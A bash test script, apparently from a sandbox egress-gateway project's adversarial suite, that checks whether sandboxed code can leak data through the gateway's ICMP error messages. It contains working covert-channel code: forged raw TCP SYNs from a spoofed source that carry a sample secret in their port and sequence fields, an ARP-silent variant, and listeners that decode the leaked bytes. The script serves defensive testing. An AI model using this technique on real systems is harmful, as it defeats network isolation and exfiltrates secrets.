#!/bin/bash
# 35-reject-reflection: data out through the gateway's own error messages,
# under a policy that allows nothing ({}).
#
# Sandbox a forges TCP SYNs from its /30's network address (the one
# forged source strict reverse-path filtering lets through: it routes back
# through a's own veth). sluice denies each as spoofed_source and has the
# kernel REJECT it with a TCP reset — sent in the name of the SYN's
# destination, to the forged address. Nobody on a's link answers ARP for
# that address, so after about 3 s the gateway's kernel gives up and sends
# an ICMP host-unreachable about the undeliverable reset to the reset's
# source: the SYN's destination, whatever it is. Through the uplink and
# its NAT it goes, carrying the whole reset, and with it 8 bytes the
# sandbox chose (its source port, the destination port, its sequence
# number, reflected as the reset's ports and acknowledgement number). The
# same road leads into another sandbox.
#
# No forgery is even needed: sandbox c uses its own address and plain
# sockets, but answers no ARP request (arp_ignore=8) after pinning the
# gateway's MAC. Every connection its empty policy denies is reset towards c, the
# gateway cannot resolve c's MAC, and the same ICMP error carries the
# ports c chose to the denied destination.
#
# What must hold: nothing reaches the attacker or sandbox b. This FAILS
# today, and the messages are read back on the far side. Ways out: no
# ICMP errors from the gateway towards the uplink or other sandboxes (it
# has none to send there but "fragmentation needed"), no REJECT reply to
# a spoofed source (NF_DROP), a point-to-point /32 so the network address
# no longer routes back through the veth, a permanent neighbour entry for
# each sandbox.
. "$(dirname "$0")/../lib/testbed.sh"
tb_init adv-reject-reflection
tb_internet_up || { tb_fail "test bed up"; tb_done; }
tb_sluiced_start || { tb_fail "sluiced up"; tb_done; }

echo '{}' > "$TB_DIR/none.json"
tb_check "sandbox a" tb_sandbox_add a "$TB_DIR/none.json"
tb_check "sandbox b" tb_sandbox_add b "$TB_DIR/none.json"
tb_check "sandbox c" tb_sandbox_add c "$TB_DIR/none.json"
addr_a=$(tb_sandbox_field a addr)
addr_b=$(tb_sandbox_field b addr)
addr_c=$(tb_sandbox_field c addr)
net_a=$(echo "$addr_a" | awk -F. '{ printf "%s.%s.%s.%d", $1, $2, $3, $4 - 2 }')

# ICMP listeners on the far sides: what the errors carry, decoded
listen() {	# listen NS OUT: prints the reset's destination and 8 chosen bytes
	_tb_bg "$1" icmp-listener "$2" "$TB_PY" -u -c '
import socket
s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
while True:
    d = s.recv(2048)
    ic = d[(d[0] & 15) * 4:]
    if ic[0] != 3 or len(ic) < 8 + 20 + 12:
        continue
    tcp = ic[8 + (ic[8] & 15) * 4:]
    print(socket.inet_ntoa(ic[24:28]),
          (tcp[0:4] + tcp[8:12]).decode("ascii", "replace"), flush=True)'
}
listen "$TB_NETNS_ATK" "$TB_DIR/atk.icmp"
listen "${P}-b" "$TB_DIR/b.icmp"
sleep 0.3

# a's root sends two messages, 8 bytes per forged SYN
send() {	# send DST MESSAGE
	tb_in a "$TB_PY" - "$net_a" "$1" "$2" <<'EOF'
import socket, struct, sys
def csum(b):
    s = sum(struct.unpack("!%dH" % (len(b) // 2), b))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF
src, dst, msg = sys.argv[1], sys.argv[2], sys.argv[3].encode()
s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
for i in range(0, len(msg), 8):
    dport, sport, ack = struct.unpack("!HHI", msg[i:i + 8].ljust(8, b"."))
    t = struct.pack("!HHIIBBHHH", sport, dport, (ack - 1) & 0xFFFFFFFF, 0, 5 << 4, 0x02, 64240, 0, 0)
    c = csum(socket.inet_aton(src) + socket.inet_aton(dst) + struct.pack("!BBH", 0, 6, 20) + t)
    h = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 40, 100 + i, 0x4000, 64, 6, 0,
                    socket.inet_aton(src), socket.inet_aton(dst))
    s.sendto(h[:10] + struct.pack("!H", csum(h)) + h[12:] + t[:16] + struct.pack("!H", c) + t[18:],
             (dst, 0))
EOF
}
send "$TB_ADDR_ATK" "SECRET-KEY=hunter2;"
send "$addr_b" "hello from a"

# c: its own address, kernel sockets; 4 chosen bytes a connection, as
# destination and source port
gwmac=$(ip -n "$TB_NETNS_GW" -o link show dev "$(tb_gw_if c)" |
    sed -n 's/.*link\/ether \([0-9a-f:]*\) .*/\1/p')
tb_in c ip neigh replace "$(tb_sandbox_field c gateway)" lladdr "$gwmac" dev eth0 nud permanent
tb_in c sysctl -qw net.ipv4.conf.all.arp_ignore=8 net.ipv4.conf.eth0.arp_ignore=8 ||
    tb_fail "c answers no ARP request"
tb_in c "$TB_PY" - "$TB_ADDR_ATK" "ARP-SILENT" <<'EOF'
import socket, struct, sys, time
socks = []
msg = sys.argv[2].encode()
for i in range(0, len(msg), 4):
    dport, sport = struct.unpack("!HH", msg[i:i + 4].ljust(4, b"."))
    s = socket.socket()
    s.bind(("", sport))
    s.setblocking(False)
    s.connect_ex((sys.argv[1], dport))
    socks.append(s)
time.sleep(0.5)     # closed before the SYN's first retransmission
EOF
sleep 4

read_back() {	# read_back FILE RESET_DST BYTES: the message as received
	awk -v d="$2" -v n="$3" '$1 == d { printf "%s", substr($0, length(d) + 2, n) }' "$1"
}
tb_assert_eq "$(tb_attacker_packet_count proto=icmp)" 0 "the attacker received no ICMP error"
got=$(read_back "$TB_DIR/atk.icmp" "$net_a" 8)
tb_assert_eq "$got" "" "no byte of a's secret reached it (it read: '$got')"
got=$(read_back "$TB_DIR/atk.icmp" "$addr_c" 4)
tb_assert_eq "$got" "" "no byte of c's message, sent from c's own address (it read: '$got')"
got=$(read_back "$TB_DIR/b.icmp" "$net_a" 8)
tb_assert_eq "$got" "" "sandbox b read nothing from a (it read: '$got')"
tb_assert_eq "$(tb_attacker_packet_count proto=tcp)" 0 "no SYN reached the attacker"
tb_assert_eq "$(tb_upstream_queries)" 0 "the upstream DNS server heard nothing"

tb_wait_rows "SELECT count(*) FROM flows" 8 >/dev/null
tb_assert_eq "$(tb_sql "SELECT src_ip, dst_ip, verdict, reason, count(*) FROM flows
    GROUP BY 1, 2, 3, 4 ORDER BY 1, 2 DESC")" \
"$net_a|$TB_ADDR_ATK|deny|spoofed_source|3
$net_a|$addr_b|deny|spoofed_source|2
$addr_c|$TB_ADDR_ATK|deny|not_allowlisted|3" \
    "each forged SYN is a spoofed_source row, each of c's a not_allowlisted one"
tb_done
